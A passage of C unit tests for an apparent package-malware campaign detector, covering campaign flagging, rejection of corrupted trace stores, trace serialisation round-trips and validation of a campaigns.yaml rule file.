        struct qn_shared shared;
        struct qn_observers *o;
        struct qn_analyser *an;
        bool payload_told = false;

        PLACE(p);
        ASSERT_EQ(qn_observers_load(TEST_DATA, &o, NULL), 0);
        ASSERT_EQ(qn_analyser_new(o, &an), 0);
        for (unsigned i = 1; i < 10; i++)
                ASSERT_EQ(update(&p, an, i, false), 0);
        for (unsigned i = 11; i < 20; i++)
                ASSERT_EQ(update(&p, an, i, true), i >= 15);
        ASSERT_STR(p.news.rule, "spreading-addition");
        ASSERT_EQ(p.news.packages, 9);
        ASSERT_EQ(qn_shared_find(&p.db, qn_str_c(p.news.id), &p.a, &shared), 0);
        for (size_t i = 0; i < shared.n; i++)
                payload_told |= shared.things[i].kind == QN_FEATURE_PAYLOAD &&
                                shared.things[i].versions == 9;
        ASSERT_TRUE(payload_told);
        qn_analyser_free(an);
        qn_observers_free(o);
}

/* --- damage --- */

TEST(a_damaged_store_is_an_error)
{
        PLACE(p);
        for (unsigned i = 0; i < 5; i++)
                (void)worm(&p, i, 99, "a.invalid");
        ASSERT_EQ(qn_db_exec(&p.db, "UPDATE trace SET bytes = x'0102' WHERE id = 3"), 0);
        ASSERT_EQ(qn_track_load(p.track, &p.db), -EBADMSG);
        ASSERT_EQ(qn_db_exec(&p.db, "DELETE FROM trace WHERE id = 3"), 0);
        ASSERT_EQ(qn_db_exec(&p.db, "UPDATE campaign SET verdict = 'nonsense'"), 0);
        ASSERT_EQ(qn_track_load(p.track, &p.db), -EBADMSG);
        ASSERT_EQ(qn_db_exec(&p.db, "UPDATE campaign SET verdict = 'suspicious'"), 0);
        ASSERT_EQ(qn_track_load(p.track, &p.db), 0);
        ASSERT_EQ(qn_track_count(p.track), 4);
}

TEST(a_trace_says_what_it_said)
{
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT(QN_TRACE_MAX),
                                             again = QN_BUF_INIT(QN_TRACE_MAX);
        struct qn_trace t = { .package = 1,
                              .owner = 2,
                              .scope = 3,
                              .time = 4,
                              .signs = 5,
                              .n = 64 },
                        back;
        char text[100];

        memset(text, 'x', sizeof text);
        for (size_t i = 0; i < t.n; i++) {
                t.features[i] = (struct qn_feature){ QN_FEATURE_INDICATOR, i };
                t.texts[i] = (struct qn_str){ text, sizeof text };
        }
        ASSERT_EQ(qn_trace_write(&t, &b), 0);
        ASSERT_EQ(qn_trace_read(qn_cur_mem(b.p, b.n), &back), 0);
        ASSERT_EQ(qn_trace_write(&back, &again), 0);
        ASSERT_TRUE(qn_str_eq(qn_buf_view(&b), qn_buf_view(&again)));
        for (size_t n = 0; n < b.n; n++)
                ASSERT_EQ(qn_trace_read(qn_cur_mem(b.p, n), &back), -EBADMSG);
        b.p[0]++;
        ASSERT_EQ(qn_trace_read(qn_cur_mem(b.p, b.n), &back), -EBADMSG);
}

/* --- rules --- */

static int load_rules(const char *text, struct qn_err *err)
{
        _cleanup_(qn_arena_done) struct qn_arena a = QN_ARENA_INIT(1 << 20);
        struct qn_campaign_rules *rules;
        char dir[] = "/tmp/qanat-test-XXXXXX", path[64];
        FILE *f;
        int r;

        ASSERT_NOT_NULL(mkdtemp(dir));
        snprintf(path, sizeof path, "%s/campaigns.yaml", dir);
        f = fopen(path, "we");
        ASSERT_NOT_NULL(f);
        fputs(text, f);
        fclose(f);
        r = qn_campaign_rules_load(dir, &a, &rules, err);
        remove_store(dir);
        return r;
}

TEST(there_are_not_too_many_rules)
{
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT(1 << 20);
        struct qn_err err = { 0 };

        qn_buf_puts(&b, "minutes: 5\ncampaigns:\n");
        for (unsigned i = 0; i < QN_CAMPAIGN_RULES_MAX; i++)
                qn_buf_puts(
                        &b,
                        "- {id: a, title: b, verdict: suspicious, packages: 4, reaches: [acts]}\n");
        ASSERT_EQ(load_rules(b.p, &err), 0);
        qn_buf_puts(&b, "- {id: a, title: b, verdict: suspicious, packages: 4, reaches: [acts]}\n");
        ASSERT_EQ(load_rules(b.p, &err), -EINVAL);
        assert_non_null(strstr(err.msg, "more campaigns"));
}

#define RULE(more) "minutes: 5\ncampaigns:\n- {id: a, title: b, verdict: suspicious, " more "}\n"

TEST(bad_rules_are_named)
{
        static const char *const bad[][2] = {
                { "campaigns: []\n", "minutes" },
                { "minutes: 0\ncampaigns: []\n", "minutes" },
                { "minutes: 10081\ncampaigns: []\n", "minutes" },
                { "minutes: 5\n", "no campaigns" },
                { "minutes: 5\ncampaigns: [x]\n", "no rule" },
                { "minutes: 5\ncampaigns: []\ndeeds: [net.fly]\n", "no such event" },
                { "minutes: 5\ncampaigns:\n- {id: a, title: b, packages: 4}\n", "verdict" },
                { "minutes: 5\ncampaigns:\n- {id: a, title: b, verdict: clean, packages: 4}\n",
                  "verdict" },
                { "minutes: 5\ncampaigns:\n- {id: a, title: b, verdict: malicious}\n",
                  "conditions" },
                { RULE("colour: 4"), "no such fact" },
                { RULE("packages: 4"), "whom it reaches" },
                { RULE("packages: 4, reaches: []"), "whom it reaches" },
                { RULE("packages: 4, reaches: acts"), "whom it reaches" },
                { RULE("packages: 4, reaches: [owners]"), "no such sign" },
                { RULE("packages: many"), "neither" },
                { RULE("packages: 0"), "neither" },
                { RULE("packages: 101%"), "neither" },
                { RULE("packages: [4]"), "neither" },
                { RULE("packages: 1, owners: 1, scopes: 1, peak: 1, first: 1, popular: 1, adds: 1, "
                       "hook: 1, acts: 1, lure: 1, taken: 1, hollow: 1, paid: 1"),
                  "more conditions" },
        };
        struct qn_err err;

        for (size_t i = 0; i < QN_ARRAY_SIZE(bad); i++) {
                err = (struct qn_err){ 0 };
                ASSERT_EQ(load_rules(bad[i][0], &err), -EINVAL);
                assert_non_null(strstr(err.msg, bad[i][1]));
                assert_non_null(strstr(err.msg, "campaigns.yaml"));
        }
        ASSERT_EQ(load_rules(RULE("packages: 4, acts: 50%, reaches: [acts, first]"), &err), 0);
}
